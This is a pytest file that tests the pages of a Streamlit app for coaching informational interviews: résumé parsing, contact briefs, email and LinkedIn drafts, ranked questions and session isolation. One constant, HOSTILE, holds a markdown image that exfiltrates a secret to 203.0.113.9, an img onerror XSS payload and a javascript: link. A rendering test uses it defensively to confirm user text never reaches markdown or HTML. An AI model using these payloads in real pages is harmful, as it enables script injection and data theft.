"""Each page, through Streamlit's test client."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date, time
from pathlib import Path

import pytest

from coach.domain.brief import Kind
from coach.ui import work
from coach.ui.work import put
from tests.ui.visit import TITLES, Visit

RESUME = Path(__file__).resolve().parents[2] / "examples" / "resume.pdf"
Begin = Callable[[], Visit]
HOSTILE = (
    "![x](http://203.0.113.9/steal?q=SECRET) <img src=x onerror=alert(1)> [click](javascript:x)"
)


@pytest.mark.parametrize("name", TITLES)
def test_every_page_opens_blank(visit: Begin, name: str) -> None:
    """No page needs another one first, and none shows an error to somebody who is new."""
    begun = visit()
    begun.turn(name)

    assert begun.title == TITLES[name]
    assert not begun.app.exception
    assert not begun.app.error


@pytest.mark.parametrize("name", TITLES)
def test_every_page_opens_with_everything_filled_in(example: Visit, name: str) -> None:
    """The same pages with a desk full of work."""
    example.press("Write my drafts and questions")
    example.turn(name)

    assert example.title == TITLES[name]
    assert not example.app.exception


class TestAboutYou:
    """Giving a résumé, and correcting what was read."""

    def test_an_uploaded_resume_is_read_and_shown(self, visit: Begin) -> None:
        """The fields hold what the file says."""
        begun = visit()
        begun.turn("you")
        begun.upload(RESUME.name, RESUME.read_bytes(), "application/pdf")

        assert begun.value("Name") == "Maya Patel"
        assert begun.value("Your name") == "Maya Patel"
        assert begun.told("Please look over what was found")

    def test_a_refused_file_loses_nothing(self, visit: Begin) -> None:
        """What was typed and what was read before stay as they were."""
        begun = visit()
        begun.turn("you")
        begun.upload(RESUME.name, RESUME.read_bytes(), "application/pdf")
        begun.fill("You in one line", "a junior who loves rivers")
        before = begun.work

        begun.upload("broken.pdf", b"%PDF-1.7 broken", "application/pdf")

        assert begun.work == before
        assert begun.value("You in one line") == "a junior who loves rivers"
        assert begun.told("damaged")

    def test_pasted_text_is_read_too(self, visit: Begin) -> None:
        """No file is needed."""
        begun = visit()
        begun.turn("you")
        text = "Lou Chen\nlou.chen@example.org\n\nEducation\nB.A. History, Kent State, 2027"
        begun.fill("The text of your résumé", text)
        begun.press("Read this text")

        assert begun.kept("brief.resume.profile.email") == "lou.chen@example.org"

    def test_a_corrected_value_is_kept(self, example: Visit) -> None:
        """The brief that drafts are written from holds the correction."""
        example.turn("you")
        example.fill("Place", "Dayton, OH")
        example.turn("who")
        example.turn("you")

        assert example.value("Place") == "Dayton, OH"
        assert example.kept("brief.resume.profile.location") == "Dayton, OH"


def test_the_form_for_the_contact_fills_the_brief(visit: Begin) -> None:
    """Every field ends up where the writers look for it, and survives turning the page."""
    begun = visit()
    begun.turn("who")
    begun.fill("The work you want to know more about", "nurse")
    begun.fill("What you would like to learn, one thing a line", "the nights\n\n  the training ")
    begun.fill("Their name", "Ana Silva")
    begun.choose("How you found them", "friend")
    begun.turn("who")
    begun.fill("Their name", "Ana Silva")
    begun.choose("What would help you most", "shadow")
    begun.fill("How long", "one morning")
    begun.turn("email")
    begun.turn("who")

    brief = begun.work.brief
    assert brief.target.role == "nurse"
    assert brief.target.learn == ("the nights", "the training")
    assert begun.kept("brief.contact.found.via") == "friend"
    assert (brief.ask.kind, brief.ask.duration) == ("shadow", "one morning")
    assert begun.value("Their name") == "Ana Silva"


class TestEmail:
    """Drafts on the desk."""

    def test_what_is_missing_is_said_in_plain_words(self, visit: Begin) -> None:
        """Somebody who begins here is told what to fill in, without keys of a file."""
        begun = visit()
        begun.turn("email")

        (notice,) = [text for text in begun.notices if "missing" in text]
        assert "Your name is missing." in notice
        assert "[sender]" not in notice

    def test_the_example_is_tried_from_here_and_taken_back(self, visit: Begin) -> None:
        """One press brings the example to this page, and one more the person's own words back."""
        begun = visit()
        begun.turn("you")
        begun.fill("You in one line", "a junior who loves rivers")
        begun.turn("email")
        begun.press("Try the example instead")

        assert begun.title == TITLES["email"]
        assert begun.kept("brief.sender.name") == "Maya Patel"
        assert "Write drafts" in [button.label for button in begun.app.button]

        begun.press("Bring back what was there before")
        assert begun.kept("brief.sender.headline") == "a junior who loves rivers"
        assert begun.kept("brief.sender.name") is None

    def test_drafts_are_written_as_wished(self, example: Visit) -> None:
        """Number, tone and length are the person's choice."""
        example.turn("email")
        example.choose("Length", "short")
        example.number("How many drafts", 3)
        example.press("Write drafts")

        assert len(example.drawn("letter")) == 3
        assert example.work.wishes.length == "short"

    def test_every_fact_names_its_source_in_words(self, example: Visit) -> None:
        """The list under a draft says which line of the résumé a claim came from."""
        example.press("Write my drafts and questions")

        sources = {fact["source"] for letter in example.drawn("letter") for fact in letter["facts"]}
        assert "how you found them" in sources
        assert any(source.startswith("line ") for source in sources)

    def test_a_linkedin_note_has_its_limit_and_no_subject(self, example: Visit) -> None:
        """The count is of the characters that the person's account allows."""
        example.turn("email")
        example.choose("What to write", Kind.LINKEDIN_NOTE)
        example.press("Write drafts")

        letter = example.drawn("letter")[0]
        assert letter["limit"] == 200
        assert letter["ask_subject"] is False
        assert sum(len(part["t"]) for part in letter["body"]) <= 200

    def test_the_longer_note_is_counted_by_its_own_limit(self, example: Visit) -> None:
        """Some accounts allow 300 characters."""
        example.turn("email")
        example.choose("What to write", Kind.LINKEDIN_NOTE)
        example.number(
            "Most characters (LinkedIn allows 200 or 300, depending on the account)", 300
        )
        example.press("Write drafts")

        assert {letter["limit"] for letter in example.drawn("letter")} == {300}


class TestQuestions:
    """The ranked list."""

    def test_questions_come_with_reasons_scores_and_a_cut(self, example: Visit) -> None:
        """Ten minutes hold fewer questions than thirty."""
        example.turn("questions")
        example.number("Minutes you have", 10)
        example.press("Suggest questions")
        (short,) = example.drawn("questions")
        example.number("Minutes you have", 30)
        example.press("Suggest again")
        (long,) = example.drawn("questions")

        assert all(entry["why"] and len(entry["bars"]) == 4 for entry in short["items"])
        fits = [sum(entry["fits"] for entry in listed["items"]) for listed in (short, long)]
        assert 0 < fits[0] < fits[1]

    def test_each_score_has_its_sentence(self, example: Visit) -> None:
        """The reasons reach the page, one for every bar."""
        example.turn("questions")
        example.press("Suggest questions")

        (listed,) = example.drawn("questions")
        assert all(bar["reason"] for entry in listed["items"] for bar in entry["bars"])

    def test_what_the_notes_answer_is_quoted(self, example: Visit) -> None:
        """Notes can be given, and the sentence that answers a question stands with it."""
        said = "The gauges are read at six."
        example.turn("questions")
        example.fill("What you know already", said)
        example.press("Suggest questions")
        answered = put(example.work, ("asking", "listed", "questions", "0", "answered"), said)
        example.app.session_state["coach.work"]["work"] = answered
        example.app.run()

        assert example.kept("asking.notes") == said
        (listed,) = example.drawn("questions")
        assert listed["items"][0]["answered"] == said

    def test_own_questions_are_on_the_list(self, example: Visit) -> None:
        """The questions that matter most are the person's own."""
        example.turn("questions")
        example.fill("Your own questions, one a line", "What would your younger self envy?")
        example.press("Suggest questions")

        (listed,) = example.drawn("questions")
        asked = [entry["question"] for entry in listed["items"]]
        assert "What would your younger self envy?" in asked


def test_a_thank_you_is_written_from_the_notes(example: Visit) -> None:
    """What was taken away from the talk stands in the note."""
    example.turn("thanks")
    example.fill("What you are taking away, one thing a line", "keep a field notebook")
    example.press("Write the thank-you note")

    bodies = ["".join(part["t"] for part in letter["body"]) for letter in example.drawn("letter")]
    assert bodies
    assert all("field notebook" in body for body in bodies)


def test_the_checklist_remembers_what_is_done(example: Visit) -> None:
    """A tick stays when the page is left and opened again."""
    example.turn("ready")
    example.tick("Be on time")
    example.turn("start")
    example.turn("ready")

    assert example.work.talk.done == ("on-time",)
    assert example.ticked("Be on time")


def test_hostile_text_is_never_handed_to_markdown_or_html(example: Visit) -> None:
    """Whatever a person or a résumé says, no element that renders markup gets to see it."""
    example.turn("who")
    example.fill("Their name", f"Ana {HOSTILE}")
    example.fill("Where", HOSTILE)
    example.fill("What you know about their work, one thing a line", HOSTILE)
    example.turn("you")
    example.fill("Your name", HOSTILE)
    example.fill("Name", HOSTILE)

    for name in TITLES:
        example.turn(name)
        rendered = [
            *example.app.markdown,
            *example.app.caption,
            *example.app.title,
            *example.app.header,
            *example.app.subheader,
            *example.app.error,
            *example.app.info,
            *example.app.success,
            *example.app.warning,
            *example.app.get("html"),
        ]
        assert not [element.value for element in rendered if "203.0.113.9" in str(element.value)]
        labels = [control.label for control in (*example.app.button, *example.app.checkbox)]
        assert not [label for label in labels if "203.0.113.9" in label]


def test_two_visits_see_nothing_of_each_other(visit: Begin) -> None:
    """What one person types is not on another's desk."""
    first, second = visit(), visit()
    first.turn("who")
    first.fill("Their name", "Only Mine")
    second.turn("who")

    assert second.value("Their name") == ""
    assert second.work.untouched


def test_a_pasted_resume_is_kept_before_it_is_read(visit: Callable[[], Visit]) -> None:
    """Words put into the box are on the desk at once, and are there again after another page."""
    begun = visit()
    begun.turn("you")
    begun.fill("The text of your résumé", "Lou Chen\nKent State University")
    begun.turn("start")
    begun.turn("you")

    assert begun.value("The text of your résumé") == "Lou Chen\nKent State University"
    assert work.load(work.save(begun.work)).resume_text == "Lou Chen\nKent State University"


def test_a_day_without_an_hour_is_kept(visit: Callable[[], Visit]) -> None:
    """The day of the talk stays while its hour is still open, and the other way round."""
    begun = visit()
    begun.turn("ready")
    begun.app.date_input[0].set_value(date(2026, 11, 20)).run()
    begun.turn("start")
    begun.turn("ready")
    assert begun.app.date_input[0].value == date(2026, 11, 20)
    assert begun.kept("talk.start") is None

    begun.app.time_input[0].set_value(time(15, 30)).run()
    begun.app.date_input[0].set_value(None).run()
    begun.turn("start")
    begun.turn("ready")
    assert begun.app.time_input[0].value == time(15, 30)
    assert begun.kept("talk.start") is None


def test_opening_saved_work_can_be_taken_back(visit: Begin) -> None:
    """What stood on the desk is set aside, not thrown away, and forgetting forgets it too."""
    begun = visit()
    begun.turn("who")
    begun.fill("Their name", "Ana Silva")
    saved = put(work.Work(), ("brief", "contact", "name"), "Elena Ruiz")
    opener = next(f for f in begun.app.file_uploader if f.label == "Open saved work")
    opener.set_value(("my-work.json", work.save(saved).encode(), "application/json")).run()
    assert begun.value("Their name") == "Elena Ruiz"

    begun.press("Bring back what was there before")
    assert begun.value("Their name") == "Ana Silva"
    begun.press("Bring back what was there before")
    assert begun.value("Their name") == "Elena Ruiz"

    begun.press("Forget everything")
    assert "Bring back what was there before" not in [b.label for b in begun.app.button]


@pytest.mark.parametrize(
    ("page", "label", "most"),
    [
        ("who", "Their name", 300),
        ("who", "What you know about their work, one thing a line", 6000),
        ("you", "The text of your résumé", 50_000),
    ],
)
def test_a_paste_too_long_for_a_field_is_cut_and_said(
    visit: Begin, page: str, label: str, most: int
) -> None:
    """As much as fits is kept and shown, and the rest is said to be left out."""
    begun = visit()
    begun.turn(page)
    begun.fill(label, "word " * 20_000)

    assert begun.value(label).strip() == ("word " * 20_000)[:most].strip()
    assert begun.told(f"No more than {most:,} characters fit here")
